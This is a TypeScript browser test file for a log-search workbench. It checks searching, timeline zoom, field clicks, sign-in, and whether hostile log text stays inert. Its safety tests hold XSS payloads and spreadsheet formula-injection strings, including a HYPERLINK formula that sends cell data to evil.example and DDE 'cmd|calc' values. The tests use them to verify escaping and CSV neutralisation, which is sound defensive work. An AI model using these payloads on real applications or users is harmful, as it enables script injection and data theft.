/**
 * The workbench in a real browser (Debian's Chromium via playwright-core): a seed search shows
 * its statistics table; dragging on the timeline and zooming re-runs over the narrower range;
 * clicking a field value adds the term; attacker-controlled log text never executes and the CSV
 * export is neutralised. Screenshots land in $QUARRY_SHOTS (default: quarry-screenshots in the temp dir).
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { chromiumMissing, openPage, realEngine, search, SHOTS, startWorkbench, waitRun, type Workbench } from './harness.js';

const skip = chromiumMissing();
if (skip) console.log(`# e2e skipped: ${skip}`);

/** Frothly-like DNS: a steady background over two days and a burst of tunnel queries. */
function dnsData(): Record<string, unknown>[] {
  const out: Record<string, unknown>[] = [];
  const t0 = Date.UTC(2017, 7, 23) / 1000;
  for (let i = 0; i < 576; i++) {
    const t = t0 + i * 300; // every 5 minutes for two days
    out.push({
      endtime: new Date(t * 1000).toISOString(),
      src: `10.0.2.${100 + (i % 4)}`,
      dest: i % 3 ? '10.0.1.100' : '8.8.8.8',
      query: [`www${i % 6}.frothly.local`],
      message_type: i % 2 ? 'RESPONSE' : 'QUERY',
      bytes_in: 60 + (i % 40),
    });
  }
  // the burst: 240 tunnel queries in two hours on the second day
  const burst = t0 + 86400 + 10 * 3600;
  for (let i = 0; i < 240; i++) {
    out.push({
      endtime: new Date((burst + i * 30) * 1000).toISOString(),
      src: '10.0.2.107',
      dest: '8.8.8.8',
      query: [`${(i * 7919).toString(36)}a9f3c2e1.hildegardsfarm.com`],
      message_type: 'QUERY',
      bytes_in: 180,
    });
  }
  return out;
}

describe('workbench in the browser', { skip: skip || undefined }, () => {
  let wb: Workbench;
  let real = false;
  before(async () => {
    real = (await realEngine()) !== null;
    wb = await startWorkbench(dnsData(), { index: 'botsv2', sourcetype: 'stream:dns' });
  });
  after(async () => wb?.close());

  it('shows the landing view, then a seed search fills the statistics table', async () => {
    const { page, errors } = await openPage(wb);
    await page.waitForSelector('.ld-index');
    assert.match(await page.textContent('.ld-data') ?? '', /index=botsv2\s+816 events/);
    await page.screenshot({ path: join(SHOTS, 'landing.png') });
    const seed = real
      ? 'index="botsv2" sourcetype="stream:dns" hildegardsfarm.com message_type=QUERY | stats count by src dest | sort - count'
      : 'index=botsv2 sourcetype=stream:dns | stats count by src';
    await search(page, seed);
    await page.waitForSelector('.st-table tbody tr');
    const tab = await page.getAttribute('.tab[data-tab=stats]', 'aria-selected');
    assert.equal(tab, 'true', 'the Statistics tab opens for a transforming search');
    const headers = await page.$$eval('.st-table th', (ths) => ths.map((t) => t.textContent?.replace(/[▲▼⇅]/g, '').trim()));
    const cells = await page.$$eval('.st-table tbody tr:first-child td', (tds) => tds.map((t) => t.textContent));
    if (real) {
      assert.deepEqual(headers, ['src', 'dest', 'count']);
      assert.deepEqual(cells, ['10.0.2.107', '8.8.8.8', '240']);
    } else {
      assert.deepEqual(headers, ['src', 'count']);
    }
    // sort by count ascending then descending
    await page.click('.st-table th:last-child .th-btn');
    await page.screenshot({ path: join(SHOTS, 'statistics.png') });
    await page.click('.tab[data-tab=viz]');
    await page.waitForSelector('.viz[data-state=ready]');
    await page.screenshot({ path: join(SHOTS, 'visualization.png') });
    assert.match(page.url(), /\/search\?q=/);
    assert.deepEqual(errors, []);
    await page.close();
  });

  it('drag on the timeline, zoom to the selection: the search re-runs over the narrower range', async () => {
    const { page, errors } = await openPage(wb);
    await search(page, 'index=botsv2 sourcetype=stream:dns');
    await page.waitForSelector('.timeline[data-state=ready]');
    await page.waitForSelector('.ev-row .ev-raw');
    const before = await page.evaluate(() => Number(document.querySelector('.events')?.getAttribute('data-total')));
    assert.equal(before, 816);
    await page.screenshot({ path: join(SHOTS, 'events.png') });
    const box = (await page.locator('.tl-canvas').boundingBox())!;
    // the burst is at 10:00–12:00 on the second of two days: drag over roughly 08:00–14:00 of day two
    const x = (f: number) => box.x + 44 + f * (box.width - 52);
    await page.mouse.move(x(0.5 + 7 / 48), box.y + box.height / 2);
    await page.mouse.down();
    await page.mouse.move(x(0.5 + 10 / 48), box.y + box.height / 2, { steps: 8 });
    await page.mouse.move(x(0.5 + 13 / 48), box.y + box.height / 2, { steps: 8 });
    await page.mouse.up();
    assert.match(await page.textContent('.tl-sel') ?? '', /events selected/);
    await page.screenshot({ path: join(SHOTS, 'timeline-selection.png') });
    const runs = await page.evaluate(() => window.__quarry.runs);
    await page.click('text=Zoom to selection');
    await waitRun(page, runs + 1);
    await page.waitForSelector('.timeline[data-state=ready]');
    const url = new URL(page.url());
    const e = Number(url.searchParams.get('earliest'));
    const l = Number(url.searchParams.get('latest'));
    const day2 = Date.UTC(2017, 7, 24) / 1000;
    assert.ok(e >= day2 + 6 * 3600 && e <= day2 + 10 * 3600, `earliest ${new Date(e * 1000).toISOString()}`);
    assert.ok(l >= day2 + 12 * 3600 && l <= day2 + 15 * 3600, `latest ${new Date(l * 1000).toISOString()}`);
    const after = await page.evaluate(() => Number(document.querySelector('.events')?.getAttribute('data-total')));
    assert.ok(after < before && after >= 240, `events after zoom: ${after}`);
    const label = await page.textContent('.tp-label');
    assert.match(label ?? '', /2017-08-24 \d\d:\d\d:\d\d to 2017-08-24/);
    // every event shown lies in the range
    const times = await page.$$eval('.ev-row', (rows) => rows.length);
    assert.ok(times > 0);
    await page.screenshot({ path: join(SHOTS, 'zoomed.png') });
    // zoom out widens the range and runs again
    const runs2 = await page.evaluate(() => window.__quarry.runs);
    await page.click('text=Zoom out');
    await waitRun(page, runs2 + 1);
    const u2 = new URL(page.url());
    assert.ok(Number(u2.searchParams.get('earliest')) < e && Number(u2.searchParams.get('latest')) > l);
    assert.deepEqual(errors, []);
    await page.close();
  });

  it('click a field value in the sidebar: the search gains field="value" and re-runs', async () => {
    const { page, errors } = await openPage(wb);
    await search(page, 'index=botsv2 sourcetype=stream:dns');
    await page.waitForSelector('.fs-field[data-field=src]');
    const interesting = await page.$$eval('[data-list=interesting] .fs-field', (els) => els.map((e) => e.getAttribute('data-field')));
    assert.ok(interesting.includes('src') && interesting.includes('dest'), `interesting: ${interesting}`);
    await page.click('.fs-field[data-field=src] .fs-name');
    await page.waitForSelector('.fs-pop .fv-table');
    await page.screenshot({ path: join(SHOTS, 'field-values.png') });
    const top = await page.$$eval('.fs-pop .fv-table tbody tr', (trs) => trs.map((tr) => [...tr.querySelectorAll('td')].slice(0, 3).map((td) => td.textContent)));
    assert.deepEqual(top[0], ['10.0.2.107', '240', '29.41%']);
    const runs = await page.evaluate(() => window.__quarry.runs);
    await page.click('.fs-pop .fv-val button >> text=10.0.2.107');
    await waitRun(page, runs + 1);
    const doc = await page.textContent('.cm-content');
    assert.equal(doc, 'index=botsv2 sourcetype=stream:dns src="10.0.2.107"');
    await page.waitForFunction(() => document.querySelector('.events')?.getAttribute('data-total') === '240');
    // the search terms are highlighted in the raw events (as <mark> elements)
    const marks = await page.$$eval('.ev-raw mark', (ms) => ms.slice(0, 3).map((m) => m.textContent));
    assert.ok(marks.includes('10.0.2.107'), `marks: ${marks}`);
    assert.match(page.url(), /q=index%3Dbotsv2\+sourcetype%3Dstream%3Adns\+src%3D%2210\.0\.2\.107%22/);
    // expand an event into its fields
    await page.click('.ev-row[data-index="0"] .ev-exp');
    await page.waitForSelector('.ev-row.open .ev-detail');
    await page.screenshot({ path: join(SHOTS, 'event-expanded.png') });
    // history remembers both searches
    const hist = await page.evaluate(() => JSON.parse(localStorage.getItem('quarry.history') ?? '[]').map((x: { q: string }) => x.q));
    assert.deepEqual(hist.slice(0, 2), ['index=botsv2 sourcetype=stream:dns src="10.0.2.107"', 'index=botsv2 sourcetype=stream:dns']);
    assert.deepEqual(errors, []);
    await page.close();
  });

  it('underlines a malformed search at the span the server reports', async () => {
    const { page } = await openPage(wb);
    const runs = await page.evaluate(() => window.__quarry.runs);
    await page.click('.cm-content');
    await page.keyboard.insertText('index=botsv2 | stast count');
    await page.keyboard.press('Enter');
    await waitRun(page, runs + 1);
    await page.waitForSelector('.cm-spl-error');
    assert.equal(await page.textContent('.cm-content .cm-spl-error'), 'stast');
    assert.match(await page.textContent('.errorbox') ?? '', /stast/);
    await page.screenshot({ path: join(SHOTS, 'error.png') });
    await page.close();
  });
});

describe('workbench safety: log text never executes', { skip: skip || undefined }, () => {
  let wb: Workbench;
  const PAYLOADS = {
    script: '<script>window.__pwned=1;alert(1)</script>',
    img: '<img src=x onerror="window.__pwned=2;alert(2)">',
    link: 'javascript:window.__pwned=3;alert(3)',
    svg: '<svg onload="window.__pwned=4"></svg>',
    formula: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    plus: "+cmd|' /C calc'!A0",
    minus: '-2+3+cmd|calc',
    at: '@SUM(1+1)*cmd|calc',
  };
  before(async () => {
    const t0 = Date.UTC(2017, 7, 23) / 1000;
    const lines = Object.entries(PAYLOADS).map(([kind, payload], i) => ({
      time: t0 + i * 60,
      kind,
      payload,
      [`<b onmouseover=alert(5)>${kind}`]: payload,
      url: payload,
    }));
    wb = await startWorkbench(lines, { index: 'xss' });
  });
  after(async () => wb?.close());

  it('renders payloads as text in events, fields, statistics and charts; nothing runs', async () => {
    const { page, errors, dialogs } = await openPage(wb);
    const violations: string[] = [];
    await page.exposeFunction('__cspViolation', (v: string) => violations.push(v));
    await page.evaluate(() => document.addEventListener('securitypolicyviolation', (e) => (window as unknown as { __cspViolation(v: string): void }).__cspViolation(`${e.violatedDirective} ${e.blockedURI}`)));
    await search(page, 'index=xss');
    await page.waitForSelector('.ev-row .ev-raw');
    const n = await page.$$eval('.ev-row', (r) => r.length);
    assert.equal(n, 8);
    // the raw text (JSON, so quotes escaped) shows up verbatim
    const text = await page.textContent('.events');
    for (const p of Object.values(PAYLOADS)) assert.ok(text!.includes(JSON.stringify(p).slice(1, -1)), `shown as text: ${p}`);
    // expand the events into their fields and open the field's values
    for (let i = 0; i < 3; i++) await page.click(`.ev-row[data-index="${i}"] .ev-exp`);
    await page.waitForSelector('.fs-field[data-field=payload]');
    await page.click('.fs-field[data-field=payload] .fs-name');
    await page.waitForSelector('.fs-pop .fv-table');
    const popText = await page.textContent('.fs-pop');
    for (const p of Object.values(PAYLOADS)) assert.ok(popText!.includes(p), `top value shown as text: ${p}`);
    await page.screenshot({ path: join(SHOTS, 'xss-events.png') });
    await page.keyboard.press('Escape');
    await search(page, 'index=xss | stats count by payload');
    await page.waitForSelector('.st-table tbody tr');
    await page.click('.tab[data-tab=viz]');
    await page.waitForTimeout(200);
    await page.click('.tab[data-tab=stats]');
    await page.screenshot({ path: join(SHOTS, 'xss-statistics.png') });
    const state = await page.evaluate(() => ({
      pwned: window.__pwned ?? 0,
      imgs: document.querySelectorAll('img').length,
      svgs: document.querySelectorAll('svg').length,
      scripts: [...document.querySelectorAll('script')].map((s) => s.getAttribute('src')),
      jsLinks: document.querySelectorAll('a[href^="javascript" i]').length,
      handlers: [...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => a.name.startsWith('on'))).length,
    }));
    assert.deepEqual(state, { pwned: 0, imgs: 0, svgs: 0, scripts: ['/assets/app.js'], jsLinks: 0, handlers: 0 });
    assert.deepEqual(dialogs, []);
    assert.deepEqual(violations, [], 'no CSP violations: nothing even tried to run');
    assert.deepEqual(errors, []);
    await page.close();
  });

  it('exports CSV with formula cells neutralised, JSON verbatim', async () => {
    const { page } = await openPage(wb);
    await search(page, 'index=xss');
    await page.waitForSelector('#status[data-state=done]');
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('text=⇩ CSV')]);
    const csv = readFileSync((await download.path())!, 'utf8');
    const lines = csv.trim().split('\r\n');
    const header = lines[0]!.split(',');
    const col = header.indexOf('payload');
    assert.ok(col >= 0, `payload column in ${header}`);
    // no cell of the export begins with a formula trigger
    const cells = parseCsv(csv).flat();
    for (const c of cells) assert.doesNotMatch(c, /^[=+\-@\t\r]/, `cell ${JSON.stringify(c)}`);
    for (const p of [PAYLOADS.formula, PAYLOADS.plus, PAYLOADS.minus, PAYLOADS.at]) assert.ok(cells.includes(`'${p}`), `neutralised: ${p}`);
    assert.ok(cells.includes(PAYLOADS.script));
    const [jd] = await Promise.all([page.waitForEvent('download'), page.click('text=⇩ JSON')]);
    const json = readFileSync((await jd.path())!, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as { result: { payload: string } });
    assert.deepEqual(new Set(json.map((j) => j.result.payload)), new Set(Object.values(PAYLOADS)));
    await page.close();
  });

  it('sends a strict Content-Security-Policy with the page', async () => {
    const res = await fetch(wb.url + '/');
    const csp = res.headers.get('content-security-policy') ?? '';
    assert.match(csp, /default-src 'none'/);
    assert.match(csp, /script-src 'self';/);
    assert.match(csp, /style-src 'self' 'nonce-[A-Za-z0-9+/=]+'/);
    assert.doesNotMatch(csp, /unsafe/);
    assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
  });
});

/** RFC 4180 reader for the assertions. */
function parseCsv(s: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let q = false;
  for (let i = 0; i < s.length; i++) {
    const c = s[i]!;
    if (q) {
      if (c === '"' && s[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') q = false;
      else cell += c;
    } else if (c === '"') q = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && s[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

describe('workbench sign-in', { skip: skip || undefined }, () => {
  let wb: Workbench;
  before(async () => {
    wb = await startWorkbench(dnsData().slice(0, 50), { index: 'botsv2', sourcetype: 'stream:dns', users: [{ name: 'analyst', password: 'correct horse battery' }] });
  });
  after(async () => wb?.close());

  it('asks for a sign-in, refuses a wrong password, then searches with the session cookie', async () => {
    const { page, errors } = await openPage(wb);
    await page.waitForSelector('form.login');
    await page.screenshot({ path: join(SHOTS, 'login.png') });
    await page.fill('input[name=user]', 'analyst');
    await page.fill('input[name=password]', 'wrong password');
    await page.click('form.login button[type=submit]');
    await page.waitForFunction(() => /wrong user name or password/.test(document.querySelector('form.login .err')?.textContent ?? ''));
    await page.fill('input[name=password]', 'correct horse battery');
    await page.click('form.login button[type=submit]');
    await page.waitForSelector('.cm-content');
    const cookies = await page.context().cookies();
    const c = cookies.find((x) => x.name === 'quarry_session')!;
    assert.ok(c.httpOnly && c.sameSite === 'Strict', 'HttpOnly, SameSite=Strict session cookie');
    assert.equal(await page.evaluate(() => document.cookie), '', 'the session is out of reach of scripts');
    await search(page, 'index=botsv2 sourcetype=stream:dns');
    await page.waitForSelector('.ev-row .ev-raw');
    assert.match(await page.textContent('.user') ?? '', /analyst/);
    assert.deepEqual(errors.filter((e) => !/401/.test(e)), []);
    await page.close();
  });
});
